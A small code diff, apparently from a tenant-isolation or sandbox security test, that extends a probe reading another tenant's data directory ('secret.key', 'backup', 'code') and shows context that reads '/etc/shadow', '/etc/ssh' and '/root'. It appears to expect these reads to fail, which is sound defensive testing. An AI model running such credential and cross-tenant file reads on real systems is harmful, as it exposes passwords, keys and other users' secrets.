@@ -30,7 +30,7 @@ say(*[reading(it) for it in ("/etc/shadow", "/etc/gshadow", "/etc/ssh", "/root",
     gain: "secrets and code of every tenant",
     answers: { oci: "ENOENT" },
     python: `
-for name in ("", "lever.sqlite", "secret.key", "archives", "code", "services", "processes"):
+for name in ("", "lever.sqlite", "secret.key", "archives", "removed", "backup", "code", "services", "processes"):
     say(reading(os.path.join(facts["dataDir"], name)))`,
   },
   {
